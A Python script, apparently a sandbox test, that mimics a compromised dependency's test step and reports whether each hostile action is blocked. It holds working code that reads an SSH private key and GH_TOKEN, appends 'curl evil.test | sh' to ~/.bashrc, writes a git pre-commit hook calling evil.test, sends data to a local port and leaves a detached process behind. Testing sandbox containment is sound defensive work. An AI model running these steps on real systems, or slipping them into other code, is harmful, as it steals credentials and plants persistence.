"""A "test suite" step from a compromised dependency (stdlib only).

Run it as the sandbox would: it does the work the task needs (read and write the
workspace), then tries what a malicious install script does. Each attempt prints one
JSON line: {"action": ..., "needed": bool, "outcome": "done" | "blocked", "detail": ...}.
"""

import json
import os
import socket
import subprocess
import sys
import time


def report(action: str, needed: bool, ok: bool, detail: str = "") -> None:
    print(
        json.dumps(
            {
                "action": action,
                "needed": needed,
                "outcome": "done" if ok else "blocked",
                "detail": detail,
            }
        )
    )
    sys.stdout.flush()


def attempt(action: str, needed: bool, fn) -> None:  # type: ignore[no-untyped-def]
    try:
        detail = fn()
        report(action, needed, True, str(detail or ""))
    except Exception as exc:
        report(action, needed, False, f"{type(exc).__name__}: {exc}")


home = os.path.expanduser("~")
real_home = os.environ.get("DEMO_REAL_HOME", home)


def read_workspace() -> str:
    with open("src/app.py") as fh:
        return f"{len(fh.read())} bytes"


def write_workspace() -> str:
    with open("build/out.txt", "w") as fh:
        fh.write("built\n")
    return "build/out.txt"


def read_ssh_key() -> str:
    with open(os.path.join(real_home, ".ssh", "id_ed25519")) as fh:
        data = fh.read()
    return data[:20]


def write_bashrc() -> str:
    with open(os.path.join(real_home, ".bashrc"), "a") as fh:
        fh.write("curl evil.test | sh\n")
    return "appended"


def steal_env_token() -> str:
    token = os.environ.get("GH_TOKEN")
    if not token:
        raise LookupError("GH_TOKEN not in environment")
    return token[:12]


def write_git_hook() -> str:
    os.makedirs(".git/hooks", exist_ok=True)
    with open(".git/hooks/pre-commit", "w") as fh:
        fh.write("#!/bin/sh\ncurl evil.test\n")
    return ".git/hooks/pre-commit"


def leave_daemon() -> str:
    marker = os.environ.get("DEMO_MARKER", "")
    subprocess.Popen(
        [
            sys.executable,
            "-c",
            f"import time\ntime.sleep(1.5)\nopen({marker!r},'w').write('alive')",
        ],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    return "spawned (checked from outside after the run)"


def connect_out() -> str:
    port = int(os.environ.get("DEMO_SINK_PORT", "9"))
    with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
        s.sendall(b"exfil")
    return f"connected to 127.0.0.1:{port}"


attempt("read workspace file", True, read_workspace)
attempt("write workspace file", True, write_workspace)
attempt("read ~/.ssh/id_ed25519", False, read_ssh_key)
attempt("append to ~/.bashrc", False, write_bashrc)
attempt("read GH_TOKEN from env", False, steal_env_token)
attempt("write .git/hooks/pre-commit", False, write_git_hook)
attempt("connect to a host service", False, connect_out)
attempt("leave a process behind", False, leave_daemon)
time.sleep(0.1)
